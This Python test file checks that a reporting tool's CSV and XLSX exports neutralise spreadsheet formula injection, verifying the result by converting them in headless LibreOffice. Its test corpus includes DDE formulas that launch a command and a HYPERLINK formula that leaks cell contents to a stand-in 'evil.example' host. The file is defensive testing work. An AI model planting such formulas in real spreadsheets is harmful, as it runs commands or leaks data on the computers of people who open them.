"""What strangers typed, opened in a real spreadsheet program: it stays text, and numbers stay numbers."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import pytest

from reports.datasets.registry import Kind
from tests.reports import files
from tests.runs.test_guards import DANGEROUS, HARMLESS

CORPUS = [
    *DANGEROUS, *HARMLESS, "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=1+2\";=1+2", "two\n=1+1", "two\r\n  @SUM(1)", "+49 30 1234567",
    '=HYPERLINK("http://evil.example?"&A1,"x")', "-2+3+cmd|' /C calc'!A0", "-1,234.56",
]  # fmt: skip
HEADS = files.heads(text=Kind.TEXT, amount=Kind.DECIMAL)
ROWS = [(text, Decimal("-5.00")) for text in CORPUS]
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


def test_no_text_is_a_formula_in_the_files_themselves() -> None:
    shown = [row[0] for row in files.csv_rows(files.made("csv", HEADS, ROWS))[1:]]
    assert [text for text, wanted in zip(shown, CORPUS, strict=True) if text == wanted] == [
        text for text in CORPUS if text in HARMLESS
    ]
    cells = [row.get("A", "") for row in files.xlsx_rows(files.made("xlsx", HEADS, ROWS))]
    assert cells[1:] == [text.replace("\x00", "\ufffd") for text in CORPUS]


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice is missing: apt-get install libreoffice-calc-nogui"
)
@pytest.mark.slow
def test_libreoffice_finds_no_formula_and_every_number(tmp_path: Path) -> None:
    written = {
        "guarded.csv": files.made("csv", HEADS, ROWS),
        "book.xlsx": files.made("xlsx", HEADS, ROWS),
        # Without the guard: LibreOffice runs it, so finding nothing in the others means something.
        "open.csv": files.made("csv", HEADS, [("=1+1", 1)], is_guarded=False),
    }
    for name, content in written.items():
        (tmp_path / name).write_bytes(content)
    _convert(tmp_path, list(written))
    assert _formulas_numbers_and_amounts(tmp_path / "open.fods")[0] == 1
    for name in ("guarded", "book"):
        assert _formulas_numbers_and_amounts(tmp_path / f"{name}.fods") == (0, len(ROWS), len(ROWS))


def _convert(folder: Path, names: list[str]) -> None:
    """To a form whose formulas can be read. Once in a while LibreOffice never gets going: then once more."""
    for attempt in range(3):
        profile = f"-env:UserInstallation=file://{folder}/profile-{attempt}"
        office = subprocess.Popen(
            ["soffice", profile, "--headless", "--convert-to", "fods", *names],
            cwd=folder, env={**os.environ, "HOME": str(folder)}, start_new_session=True,
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )  # fmt: skip
        try:
            office.wait(timeout=45)
            return
        except subprocess.TimeoutExpired:
            os.killpg(office.pid, signal.SIGKILL)
            office.wait()
    pytest.fail("LibreOffice did not convert the files in three attempts.")


def _formulas_numbers_and_amounts(sheets: Path) -> tuple[int, int, int]:
    cells = list(next(ElementTree.parse(sheets).iter(f"{_TABLE}table")).iter(f"{_TABLE}table-cell"))
    numbers = [cell for cell in cells if cell.get(f"{_OFFICE}value-type") == "float"]
    amounts = [cell for cell in numbers if cell.get(f"{_OFFICE}value") == "-5"]
    return sum(f"{_TABLE}formula" in cell.attrib for cell in cells), len(numbers), len(amounts)
